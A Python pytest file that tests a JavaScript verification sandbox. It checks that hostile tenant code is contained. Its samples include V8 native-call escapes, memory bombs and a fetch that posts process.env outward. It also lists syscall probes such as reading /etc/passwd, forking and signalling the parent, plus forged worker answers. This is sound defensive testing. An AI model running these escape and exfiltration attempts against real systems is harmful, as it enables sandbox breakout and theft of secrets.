# ruff: noqa: E501  (JavaScript reads best on one line)
"""What a tenant's code tries against the process that runs it costs that Action only; the next verdict is right."""

import os
import platform
import sys
import time
from pathlib import Path

import pytest

from phonefleet.actions.translation_model import VerificationResult
from phonefleet.actions.verify import pool
from phonefleet.actions.verify.frames import MAX_ANSWER_BYTES
from phonefleet.actions.verify.isolate_worker import FLAGS
from phonefleet.actions.verify.pool import JobBatch, Pool, PoolProgram
from phonefleet.actions.verify.verifier import verify_translation

from .pairs import BODIES, legacy, new

SEND = "await fetch('https://api.example', { method: 'POST', body: to + text });"
MAKER = "const maker = (async () => {})['constr' + 'uctor'];"
ATTACKS = {
    "natives": ("%DebugPrint(event); " + SEND, "syntax"),
    "a constructor with a computed name": (MAKER + " maker('%DebugPrint(1); %SystemBreak();')(); " + SEND, None),
    "a crash by natives": (MAKER + " maker('%AbortJS(1)')(); " + SEND, None),
    "printing": ("if (typeof print === 'function') { print('x'); write('x'); } console.log('\\u0000\\u0000\\u0000\\u0001x'); process.stdout.write('x'); " + SEND, "verified"),
    "an endless loop": ("for (;;) {}", "timeout"),
    "an endless loop in a promise": ("await null; for (;;) {}", "timeout"),
    "a memory bomb": ("const all = []; for (;;) all.push(new Array(1e6).fill(all.length));", "memory"),
    "memory at once": ("const all = []; all.length = 2 ** 30; all.fill(0);", None),
    "strings that double": ("let all = 'x'; for (;;) all += all;", None),
}  # fmt: skip


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_costs_that_action_only(name):
    body, expected = ATTACKS[name]
    verification = verify_translation(legacy(body), new(body), events=4)
    if expected == "verified":
        assert verification.result is VerificationResult.VERIFIED, verification
    else:
        assert verification.result is not VerificationResult.VERIFIED, verification
        assert expected is None or verification.reasons[0].code == expected, verification
    next_one = verify_translation(legacy(BODIES["axios"]), new(BODIES["axios"]), events=4)
    assert next_one.result is VerificationResult.VERIFIED, next_one


def test_the_engine_offers_no_natives():
    assert not [flag for flag in FLAGS if "natives" in flag or "expose-gc" in flag]


def test_no_environment_reaches_a_worker(monkeypatch):
    monkeypatch.setenv("A_SECRET_OF_THE_FLEET", "hunter2-in-the-environment")
    own = Pool()
    own.run(PoolProgram("exports.x = 1;", "x", "new"), {}, JobBatch("", b"[]"))
    (pid,) = own.pids()
    with Path(f"/proc/{pid}/environ").open("rb") as stream:
        names = {pair.partition(b"=")[0] for pair in stream.read().split(b"\0") if pair}
    own.close()
    assert names <= {b"TZ", b"LC_ALL", b"LD_LIBRARY_PATH"}


def test_an_action_sees_no_environment(monkeypatch):
    monkeypatch.setenv("A_SECRET_OF_THE_FLEET", "hunter2-in-the-environment")
    body = "await fetch('https://api.example', { method: 'POST', body: to + text + JSON.stringify(process.env) });"
    verification = verify_translation(legacy(body), new(body + " throw new Error('shown');"), events=2)
    assert verification.counterexample is not None
    assert "hunter2" not in str(verification)


def test_a_worker_is_limited_by_the_system():
    own = Pool()
    own.run(PoolProgram("exports.x = 1;", "x", "new"), {}, JobBatch("", b"[]"))
    worker = own._idle[0]
    expected = {
        "RLIMIT_AS",
        "RLIMIT_DATA",
        "RLIMIT_CORE",
        "RLIMIT_FSIZE",
        "RLIMIT_NOFILE",
        "no new privileges",
    }
    assert expected <= set(worker.in_force)
    with Path(f"/proc/{worker.process.pid}/status").open(encoding="ascii") as stream:
        status = dict(line.split(":", 1) for line in stream.read().splitlines() if ":" in line)
    descriptors = {str(Path(f"/proc/{worker.process.pid}/fd/{n}").readlink()) for n in (0, 1, 2)}
    own.close()
    assert status["NoNewPrivs"].strip() == "1"
    assert status["Seccomp"].strip() == "2"
    assert descriptors == {"/dev/null"}


REFUSED = {
    "a file": "open('/etc/passwd')",
    "a new file": "open('/tmp/phonefleet-sandbox-test', 'w')",
    "a socket": "__import__('socket').socket()",
    "a program": "os.execv('/bin/true', ['true'])",
    "a process": "os.fork()",
    "a signal to another process": "os.kill(os.getppid(), 0)",
    "a queued signal to another process": "call(129, os.getppid(), 0, SIGNAL)",
    "a queued signal to a thread of another process": "call(297, os.getppid(), os.getppid(), 0, SIGNAL)",
    "a signal through a descriptor of a process": "call(424, 0, 0, None, 0)",
    "a limit of another process": "resource.prlimit(os.getppid(), resource.RLIMIT_CORE)",
    "a signal by a pipe": "fcntl.fcntl(0, fcntl.F_SETOWN, os.getppid())",
    "the priority of another process": "os.setpriority(os.PRIO_PROCESS, os.getppid(), 19)",
    "the processors of another process": "os.sched_setaffinity(os.getppid(), os.sched_getaffinity(0))",
}
OF_X86_64 = {what for what, call in REFUSED.items() if call.startswith("call(")}
ALLOWED = {
    "its own limits": "resource.setrlimit(resource.RLIMIT_CORE, (0, 0))",
    "flags of a descriptor": "fcntl.fcntl(1, fcntl.F_GETFL)",
}


def _restricted(call):
    """Make a call in a restricted process: 7 if it is not permitted, 0 if it is done."""
    code = (
        "import ctypes, errno, fcntl, os, resource, socket, struct, sys; sys.path[:0] = sys.argv[1:]\n"
        "from phonefleet.actions.verify.sandbox import restrict\n"
        "SIGNAL = struct.pack('iiiiII', 0, 0, -1, 0, os.getpid(), os.getuid()) + bytes(104)\n"
        "library = ctypes.CDLL(None, use_errno=True)\n"
        "def call(*arguments):\n"
        "    if library.syscall(*arguments) < 0: raise OSError(ctypes.get_errno(), 'refused')\n"
        "assert 'system calls' in restrict()\n"
        f"try: {call}\n"
        "except OSError as error: os._exit(7 if error.errno in (errno.EPERM, errno.EMFILE) else 8)\n"
        "os._exit(0)"
    )
    pid = os.posix_spawn(sys.executable, [sys.executable, "-I", "-c", code, str(Path.cwd())], {})
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])


@pytest.mark.parametrize("what", REFUSED)
def test_the_system_refuses_a_worker(what):
    if what in OF_X86_64 and platform.machine() != "x86_64":
        pytest.skip("the number of the call is that of another machine")
    assert _restricted(REFUSED[what]) == 7


@pytest.mark.parametrize("what", ALLOWED)
def test_the_system_lets_a_worker_do(what):
    assert _restricted(ALLOWED[what]) == 0


def _liar(monkeypatch, answer):
    """Replace the worker by a program that is ready and then answers each request with ``answer(identity)``."""
    code = (
        "import os, struct, sys\n"
        "head = struct.Struct('>16sI'); out = int(sys.argv[1])\n"
        "def read(n):\n"
        "    data = b''\n"
        "    while len(data) < n:\n"
        "        part = os.read(0, n - len(data))\n"
        "        if not part: os._exit(0)\n"
        "        data += part\n"
        "    return data\n"
        "identity, size = head.unpack(read(20)); os.write(out, head.pack(identity, 5) + b'ready')\n"
        "while True:\n"
        "    identity, size = head.unpack(read(20)); read(size)\n"
        f"    {answer}\n"
    )
    monkeypatch.setattr(pool, "_START", code)


GOOD = b'{"notes":[],"changed":[],"stopped":null,"place":"","cpu":0}'
LIES = {
    "another identity": f"os.write(out, head.pack(bytes(16), {len(GOOD)}) + {GOOD!r})",
    "a forged length": f"os.write(out, head.pack(identity, {MAX_ANSWER_BYTES + 1}) + b'x')",
    "half an answer": "os.write(out, head.pack(identity, 100) + b'x'); os._exit(0)",
    "half a head": "os.write(out, b'x' * 10); os._exit(0)",
    "no JSON": "os.write(out, head.pack(identity, 3) + b'abc')",
    "JSON of another shape": "os.write(out, head.pack(identity, 2) + b'[]')",
}


@pytest.mark.parametrize("lie", LIES)
def test_a_false_answer_is_a_crash(monkeypatch, lie):
    _liar(monkeypatch, LIES[lie])
    own = Pool()
    run = own.run(PoolProgram("", "x", "new"), {}, JobBatch("", b"[]"))
    assert run.stopped == "crash"
    assert own.pids() == ()


def test_a_silent_worker_is_given_up(monkeypatch):
    _liar(monkeypatch, "import time; time.sleep(600)")
    monkeypatch.setattr(pool, "IDLE_SECONDS", 2)
    began = time.monotonic()
    assert Pool().run(PoolProgram("", "x", "new"), {}, JobBatch("", b"[]")).stopped == "crash"
    assert time.monotonic() - began < 60


def test_programs_share_no_isolate():
    assert PoolProgram("a", "x", "new").owner != PoolProgram("b", "x", "new").owner
    kept = "Object.defineProperty(Object, 'kept', { value: 1 }); exports.x = () => {};"
    seen = "if (Object.kept) throw new Error('kept'); exports.x = () => {};"
    event = b'[{"event":"{}","start":0,"seed":1,"answers":[],"fresh":false}]'
    own = Pool()
    assert own.run(PoolProgram(kept, "x", "new"), {}, JobBatch("", event)).loads[0].error is None
    assert own.run(PoolProgram(seen, "x", "new"), {}, JobBatch("", event)).loads[0].error is None
    own.close()
